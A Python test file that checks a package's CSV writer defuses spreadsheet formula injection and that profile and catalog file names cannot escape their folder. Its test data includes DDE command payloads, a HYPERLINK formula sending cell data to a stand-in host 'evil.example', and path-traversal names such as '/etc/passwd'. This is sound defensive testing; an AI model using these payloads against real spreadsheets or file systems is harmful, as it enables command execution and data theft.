"""What is written: cells that are no formulas, names that stay in their folder."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from advisor.catalog import Price, load_catalog
from advisor.catalog.skeleton import write_skeleton
from advisor.errors import InputError
from advisor.files import plain_cell, write_atomic
from advisor.pricelists.refresh import table_text
from advisor.profiles import calibration_path, profile_path

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", " =1", "  +cmd|' /C calc'!A0", '"=1"',
    "\n=1", "\ufeff=1", "\u200b=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201",
    '=HYPERLINK("http://evil.example?x="&A1,"click")', "=cmd|'/c calc'!A1", "\x0b=1", "\xa0=1",
)  # fmt: skip
HOSTILE_NAMES = (
    "../x", "..", ".", "", "/etc/passwd", "a/b", "a\\b", "..\\x", "\x00", "a\x00b", ".hidden", "_x",
    "a/../../b", "C:\\x", "//x", "~/x", "x/", "%2e%2e%2fx/..",
)  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_like_a_formula_becomes_plain_text(text: str) -> None:
    assert plain_cell(text) == f"'{text}"
    assert plain_cell(plain_cell(text)) == f"'{text}"  # once is enough


@given(st.text(max_size=30))
def test_no_cell_starts_as_a_formula_does(text: str) -> None:
    cell = str(plain_cell(text))
    assert not cell.lstrip(' \t\r\n"\ufeff\u200b\xa0').startswith(tuple("=+-@"))
    assert cell.removeprefix("'").endswith(text.removeprefix("'"))


@given(st.integers() | st.floats(allow_nan=False))
def test_numbers_stay_numbers(number: float) -> None:
    assert plain_cell(number) is number


def test_every_csv_that_is_written_is_neutral() -> None:
    """Price lists are the tables that the package writes; texts of a price come from outside."""
    price = Price(
        provider="=p()", instance="@i", device="l4", gpu_count=1, region="+r",
        on_demand_usd_per_hour=1.5, usd_per_gpu_hour=1.5, as_of=date(2026, 11, 1),
        as_of_text="-1", source="=s", confidence="contract", notes="\t=n",
    )  # fmt: skip
    (row,) = csv.DictReader(io.StringIO(table_text([price]), newline=""))
    assert [row[name][:1] for name in ("provider", "instance", "region", "source", "notes")] == [
        "'"
    ] * 5
    assert float(row["on_demand_usd_per_hour"]) == 1.5


def test_tables_are_written_in_one_place() -> None:
    """Another csv.writer in the package must pass its texts through plain_cell."""
    package = Path(__file__).resolve().parents[2] / "advisor"
    for file in package.rglob("*.py"):
        text = file.read_text(encoding="utf-8")
        if "csv.writer" in text or "csv.DictWriter" in text or ".to_csv(" in text:
            assert "plain_cell" in text, f"{file} writes CSV and does not call plain_cell"


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_no_name_leads_out_of_a_folder(name: str, tmp_path: Path) -> None:
    """Profiles, calibrations and new catalog entries are named by what others wrote."""
    for make in (
        lambda: profile_path(tmp_path, name, "m"),
        lambda: profile_path(tmp_path, "d", name),
        lambda: calibration_path(tmp_path, name),
        lambda: write_skeleton(load_catalog(), name, "dcgan-64", tmp_path),
    ):
        with pytest.raises(InputError):
            make()


@given(st.text(min_size=1, max_size=40))
def test_a_profile_lies_in_its_folder_or_is_refused(name: str) -> None:
    folder = Path("/data/profiles")
    try:
        made = profile_path(folder, name, name)
    except InputError:
        return
    assert made.parent.parent == folder and ".." not in made.parts


def test_a_link_in_the_way_is_replaced_and_not_followed(tmp_path: Path) -> None:
    target = tmp_path / "precious"
    target.write_text("kept")
    (tmp_path / "report.html").symlink_to(target)
    write_atomic(tmp_path / "report.html", "new")
    assert target.read_text() == "kept"
    assert (tmp_path / "report.html").read_text() == "new"
    assert not (tmp_path / "report.html").is_symlink()


def test_a_path_that_no_file_can_have_is_refused(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="cannot write"):
        write_atomic(tmp_path / "a\x00b", "x")
